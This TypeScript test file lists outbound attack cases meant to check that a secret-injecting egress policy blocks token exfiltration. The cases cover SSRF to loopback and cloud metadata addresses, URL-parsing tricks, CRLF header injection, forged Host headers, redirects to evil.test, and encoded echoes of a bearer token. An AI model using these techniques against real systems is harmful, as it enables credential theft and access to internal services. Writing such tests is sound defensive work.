import type { Attack } from "./attacks";

const AUTH = "headers: { authorization: 'Bearer ' + T }";
const get = (url: string, init = AUTH) => `return new Response(await say(fetch(${JSON.stringify(url)}, { ${init} })))`;

/** Destinations that the policy does not allow, by their spelling. */
const destinations: Attack[] = (
  [
    ["an undeclared host", "https://evil.test/", "host_not_allowed"],
    ["a suffix of the host", "https://notapi.test/", "host_not_allowed"],
    ["the host as a prefix", "https://api.test.evil.test/", "host_not_allowed"],
    ["a name below the host", "https://x.api.test/", "host_not_allowed"],
    ["user information", "https://api.test@evil.test/", "host_not_allowed|credentials"],
    ["a backslash", "https://evil.test\\@api.test/", "host_not_allowed"],
    ["a fragment in the authority", "https://evil.test#@api.test/", "host_not_allowed"],
    ["another port", "https://api.test:8443/", "port_not_allowed"],
    ["plain http", "http://api.test/", "https_required"],
    ["a wildcard's own name", "https://wild.test/", "host_not_allowed"],
    ["loopback, declared", "http://127.0.0.1:FOREIGN/", "address_not_allowed"],
    ["loopback as a number, declared", "http://2130706433:FOREIGN/", "address_not_allowed"],
    ["loopback in hex, declared", "http://0x7f.1:FOREIGN/", "address_not_allowed"],
    ["loopback of IPv6, declared", "http://[::1]:FOREIGN/", "address_not_allowed"],
    ["mapped loopback, declared", "http://[::ffff:127.0.0.1]:FOREIGN/", "address_not_allowed"],
    ["localhost, declared", "http://localhost:FOREIGN/", "address_not_allowed"],
    ["all addresses, declared", "http://0.0.0.0:FOREIGN/", "address_not_allowed"],
    ["cloud metadata, declared", "http://169.254.169.254/latest/meta-data/", "address_not_allowed"],
    ["a name that resolves to loopback", "http://rebind.test:FOREIGN/", "address_not_allowed"],
    ["a private name without the operator's leave", "http://inner.test:FOREIGN/", "address_not_allowed"],
  ] as const
).map(([title, url, verdict]) => ({
  title,
  // The secret alone would stop a request to an address that is not its own.
  code: get(url, verdict === "address_not_allowed" ? "method: 'GET'" : AUTH),
  expect: new RegExp(verdict),
}));

/** Places where the placeholder does not belong. */
const places: Attack[] = [
  {
    title: "the token to a second allowed host",
    code: get("https://second.test/echo"),
    expect: /secret_not_bound_to_host/,
  },
  {
    title: "the token in another header",
    code: get("https://api.test/echo", "headers: { 'x-other': T }"),
    expect: /secret_location/,
  },
  {
    title: "the token in a header's name",
    code: get("https://api.test/echo", "headers: { [T]: '1' }"),
    expect: /secret_location/,
  },
  {
    title: "the token in the query",
    code: "return new Response(await say(fetch('https://api.test/echo?x=' + T)))",
    expect: /secret_location/,
  },
  {
    title: "the token in a query's name",
    code: "return new Response(await say(fetch('https://api.test/echo?' + T + '=1')))",
    expect: /secret_location/,
  },
  {
    title: "the token in the path",
    code: "return new Response(await say(fetch('https://api.test/' + T)))",
    expect: /secret_location/,
  },
  {
    title: "the token in the path, with percent signs",
    code: "return new Response(await say(fetch('https://api.test/' + T.replace('ph_', '%70h_'))))",
    expect: /secret_location/,
  },
  {
    title: "the token in a cookie",
    code: get("https://api.test/echo", "headers: { cookie: 'a=' + T }"),
    expect: /secret_location/,
  },
  {
    title: "the token as Basic in another header",
    code: get("https://api.test/echo", "headers: { 'x-auth': 'Basic ' + btoa('u:' + T) }"),
  },
  {
    title: "the token in the body, published",
    code: "const r = await say(fetch('https://api.test/echo?of=all', { method: 'POST', body: JSON.stringify({ content: T }), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + T } })); return new Response(r)",
    expect: /200.*\[secret\]/s,
  },
  {
    title: "the query's secret in the header",
    code: "return new Response(await say(fetch('https://api.test/echo', { headers: { authorization: env.QUERY } })))",
    expect: /secret_location/,
  },
  {
    title: "another name's secret with the right value's place",
    code: "return new Response(await say(fetch('https://api.test/echo?key=' + env.TOKEN)))",
    expect: /secret_location/,
  },
  {
    title: "another workspace's placeholder",
    code: "return new Response(await say(fetch('https://api.test/echo', { headers: { authorization: 'Bearer ' + T.slice(0, -4) + 'AAAA' } })))",
    expect: /200/,
  },
  {
    title: "a guessed placeholder",
    code: "return new Response(await say(fetch('https://api.test/echo', { headers: { authorization: 'Bearer ph_TOKEN_0000000000000000000000 {{TOKEN}} {{secret:TOKEN}}' } })))",
    expect: /200/,
  },
];

/** What the function says about itself, the transport and the method. */
const transport: Attack[] = [
  {
    title: "a forged Host",
    code: get("https://api.test/echo?of=all", "headers: { host: 'evil.test', authorization: 'Bearer ' + T }"),
    expect: /api\.test/,
  },
  {
    title: "forged identity headers",
    code: get(
      "https://evil.test/",
      "headers: { 'x-rt-props': encodeURIComponent(JSON.stringify({ ws: 'ws_b', ins: 'x', dep: 'x', rev: 1 })), 'x-rt-key': 'k', authorization: 'Bearer ' + T }",
    ),
    expect: /host_not_allowed/,
  },
  {
    title: "a line break in a header",
    code: "try { return new Response(await say(fetch('https://api.test/', { headers: { a: 'b\\r\\nhost: evil.test' } }))) } catch (e) { return new Response('refused ' + e.message) }",
    expect: /refused/,
  },
  ...["TRACE", "TRACK", "CONNECT", "trace"].map((method) => ({
    title: `the method ${method}`,
    code: `try { return new Response(await say(fetch('https://api.test/echo', { method: '${method}', ${AUTH} }))) } catch (e) { return new Response('method_not_allowed ' + e.message) }`,
    expect: /method_not_allowed/,
  })),
  {
    title: "a redirect to an evil host",
    code: get("https://api.test/redirect?to=https://evil.test/"),
    expect: /host_not_allowed/,
  },
  {
    title: "a redirect to loopback",
    code: get("https://api.test/redirect?to=http://127.0.0.1:FOREIGN/"),
    expect: /address_not_allowed/,
  },
  {
    title: "a redirect to the second host",
    code: get("https://api.test/redirect?to=https://second.test/echo"),
    expect: /secret_not_bound|200/,
  },
  {
    title: "a redirect that is not followed",
    code: get("https://api.test/redirect?to=https://evil.test/", `redirect: 'manual', ${AUTH}`),
    expect: /302/,
  },
  {
    title: "a cloned request",
    code: "const q = new Request('https://evil.test/', { headers: { authorization: T } }); return new Response(await say(fetch(new Request('https://api.test/', q.clone()))) + await say(fetch(q)))",
    expect: /host_not_allowed/,
  },
  {
    title: "a streamed body",
    code: "const { readable, writable } = new TransformStream(); const w = writable.getWriter(); w.write(new TextEncoder().encode(T)).then(() => w.close()); return new Response(await say(fetch('https://api.test/echo?of=all', { method: 'POST', body: readable, headers: { authorization: 'Bearer ' + T } })))",
    expect: /200/,
  },
];

/** The bound host sends the secret back. */
const echoes: Attack[] = [
  ...[
    "raw",
    "json",
    "unicode",
    "url",
    "percent",
    "twice",
    "hex",
    "HEX",
    "base64",
    "base641",
    "base642",
    "base64url",
    "upper",
    "lower",
    "html",
    "thrice",
  ].map((as) => ({
    title: `an echo as ${as}`,
    code: get(`https://api.test/echo?as=${as}`),
    expect: /200.*\[secret\]/s,
  })),
  {
    title: "an echo in headers",
    code: "const r = await fetch('https://api.test/headers', { redirect: 'manual', headers: { authorization: 'Bearer ' + T } }); return Response.json([...r.headers])",
    expect: /\[secret\]/,
  },
  {
    title: "an echo in base64 in headers",
    code: "const r = await fetch('https://api.test/headers?as=base64', { redirect: 'manual', headers: { authorization: 'Bearer ' + T } }); return Response.json([...r.headers])",
    expect: /\[secret\]/,
  },
  { title: "an echo in an error", code: get("https://api.test/reason"), expect: /401.*\[secret\]/ },
  { title: "a compressed echo", code: get("https://api.test/gzip"), expect: /200.*\[secret\]/ },
  { title: "an echo byte by byte", code: get("https://api.test/trickle"), expect: /200.*\[secret\]/ },
  {
    title: "slices of an echo",
    code: "let all = ''; for (let i = 0; i < 40; i += 4) all += await (await fetch('https://api.test/range', { headers: { range: 'bytes=' + i + '-' + (i + 3), authorization: 'Bearer ' + T } })).text(); return new Response(all)",
    expect: /\[secret\]/,
  },
  {
    title: "an echo of a Basic pair",
    code: get("https://api.test/echo?of=all", "headers: { authorization: 'Basic ' + btoa('user:' + T) }"),
    expect: /200/,
  },
  {
    title: "an echo of the query's secret",
    code: "return new Response(await say(fetch('https://api.test/echo?of=all&key=' + env.QUERY)))",
    expect: /200.*\[secret\]/s,
  },
  {
    title: "an echo of the path's secret",
    code: "return new Response(await say(fetch('https://api.test/bot' + env.PATHY + '/send?of=all')))",
    expect: /200.*\[secret\]/s,
  },
  {
    title: "an echo of the body's secret",
    code: "return new Response(await say(fetch('https://api.test/echo?of=all', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ key: env.BODY }) })))",
    expect: /200.*\[secret\]/s,
  },
  {
    title: "an echo in an answer that is an error of ours",
    code: "const r = await fetch('https://api.test/echo', { headers: { authorization: 'Bearer ' + T } }); throw new Error(await r.text())",
  },
  {
    title: "a secret that is not set",
    code: "return new Response(await say(fetch('https://api.test/echo', { headers: { authorization: env.UNSET } })))",
    expect: /secret_not_set/,
  },
];

/** Attacks by what leaves and what comes back. */
export const OUTBOUND_ATTACKS: Attack[] = [...destinations, ...places, ...transport, ...echoes];
